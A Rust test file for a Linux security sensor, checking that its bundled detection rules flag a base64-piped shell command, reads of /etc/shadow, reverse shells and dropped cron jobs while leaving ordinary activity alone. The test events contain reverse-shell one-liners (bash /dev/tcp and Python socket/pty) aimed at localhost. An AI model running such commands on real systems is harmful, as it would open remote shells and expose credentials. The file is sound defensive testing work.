//! The bundled rules find the four attacks that the README shows, and leave alone what is usual.

use super::event::{connect, event, exec, exec_as, file, open, process};
use crate::{
    events::{Body, Event, Outcome},
    finding::Level,
    score::{RuleState, load},
};
use std::path::PathBuf;

fn bundled() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

/// File stems of the rules that match, those of this project and SigmaHQ's.
fn found(events: &[Event]) -> Vec<(String, Level)> {
    let mut engine = load(&[bundled()]).engine;
    let mut out: Vec<(String, Level)> = Vec::new();
    for event in events {
        out.extend(engine.matching_rules(event).iter().map(|r| {
            let stem = r.source.rsplit('/').next().unwrap_or_default().trim_end_matches(".yml");
            (stem.to_owned(), r.level)
        }));
    }
    out.sort();
    out.dedup();
    out
}

fn names(events: &[Event]) -> Vec<String> {
    found(events).into_iter().map(|(name, _)| name).collect()
}

#[test]
fn all_bundled_rules_can_be_loaded() {
    let report = load(&[bundled()]).report;
    let broken: Vec<String> = report.broken().map(|(r, _)| r.to_string()).collect();
    assert_eq!(broken, Vec::<String>::new());
    assert_eq!((report.running(), report.not_applicable()), (146, 23));
    for rule in report.rules.iter().filter(|r| r.source.starts_with("sensor/")) {
        assert_eq!(rule.state, RuleState::Runs { notes: vec![] }, "{}", rule.source);
        assert_eq!(rule.author, "The sensor authors");
    }
}

#[test]
fn a_decoded_command_piped_into_a_shell_is_found() {
    let attack = [
        exec("/usr/bin/bash", &["bash", "-c", "echo aWQK | base64 -d | sh"]),
        exec("/usr/bin/base64", &["base64", "-d"]),
        exec_as("/usr/bin/dash", "/usr/bin/sh", &["sh"]),
        exec("/usr/bin/id", &["id"]),
    ];
    let found = found(&attack);
    assert!(found.iter().any(|(n, l)| n == "proc_creation_lnx_base64_execution" && *l == Level::Medium), "{found:?}");
}

#[test]
fn reading_the_password_hashes_is_found() {
    let read = |program: &str, outcome| open(program, "/etc/shadow", 0, false, outcome);
    let (ok, denied, missing) = (Outcome::Success(3), Outcome::Failure(13), Outcome::Failure(2));
    assert_eq!(names(&[read("/usr/bin/cat", denied)]), ["file_access_shadow_denied"]);
    assert_eq!(names(&[read("/usr/bin/cat", ok)]), ["file_access_shadow_read"]);
    assert_eq!(names(&[read("/usr/sbin/unix_chkpwd", ok)]), [""; 0]);
    assert_eq!(names(&[read("/usr/bin/sudo", ok)]), [""; 0]);
    assert_eq!(names(&[read("/usr/bin/cat", missing)]), [""; 0]);
    assert!(found(&[read("/usr/bin/cat", denied)]).iter().all(|(_, l)| *l >= Level::Medium));
}

#[test]
fn a_reverse_shell_is_found() {
    let typed = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Success(0));
    let given = exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]);
    let refused = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Failure(111));
    let under_way = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Unknown);
    let python = ["python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"];
    for event in [&typed, &refused, &under_way] {
        assert_eq!(found(std::slice::from_ref(event)), [("network_connection_shell".to_owned(), Level::High)]);
    }
    assert!(names(&[given]).contains(&"proc_creation_dev_tcp".to_owned()));
    let python = names(&[connect("/usr/bin/python3.11", &python, "127.0.0.1", 4444, Outcome::Success(0))]);
    assert_eq!(python, ["network_connection_interpreter_one_liner"]);
    let curl = connect("/usr/bin/curl", &["curl", "http://127.0.0.1/"], "127.0.0.1", 80, Outcome::Success(0));
    assert_eq!(names(&[curl]), [""; 0]);
    let mut wget = process("/bin/busybox", "/usr/bin/wget", &["wget", "http://127.0.0.1/"]);
    wget.comm = "wget".into();
    let Body::Connect { outcome, socket } = typed.body else { panic!("made above") };
    assert_eq!(names(&[event(wget, Body::Connect { outcome, socket })]), [""; 0]);
}

#[test]
fn a_cron_job_that_is_dropped_or_removed_is_found() {
    let job = "/etc/cron.d/evil";
    let ok = Outcome::Success(0);
    let by = |program: &str| process(program, program, &[program]);
    let dropped = [
        open("/usr/bin/bash", job, 0o1101, true, ok),
        event(by("/usr/bin/mv"), Body::Rename { outcome: ok, old: file("/tmp/x"), new: file(job), flags: 0 }),
        event(by("/usr/bin/ln"), Body::Link { outcome: ok, old: file("/tmp/x"), new: file(job) }),
        event(by("/usr/bin/ln"), Body::Symlink { outcome: ok, target: "/tmp/x".into(), link: file(job) }),
    ];
    for event in dropped {
        let found = found(&[event]);
        assert!(found.contains(&("file_event_cron_outside_package_manager".to_owned(), Level::Medium)), "{found:?}");
        assert!(found.contains(&("file_event_lnx_susp_cron_file_created".to_owned(), Level::Low)), "{found:?}");
    }
    let removed = event(by("/usr/bin/rm"), Body::Unlink { outcome: ok, file: file(job), directory: false });
    assert_eq!(found(&[removed]), [("file_delete_cron".to_owned(), Level::Medium)]);
    let moved = event(by("/usr/bin/mv"), Body::Rename { outcome: ok, old: file(job), new: file("/tmp/x"), flags: 0 });
    assert_eq!(found(&[moved]), [("file_rename_cron_away".to_owned(), Level::Medium)]);
    let package =
        event(by("/usr/bin/dpkg"), Body::Rename { outcome: ok, old: file("/etc/cron.d/a.dpkg-new"), new: file("/etc/cron.d/a"), flags: 0 });
    assert!(found(&[package]).iter().all(|(_, l)| *l < Level::Medium));
}
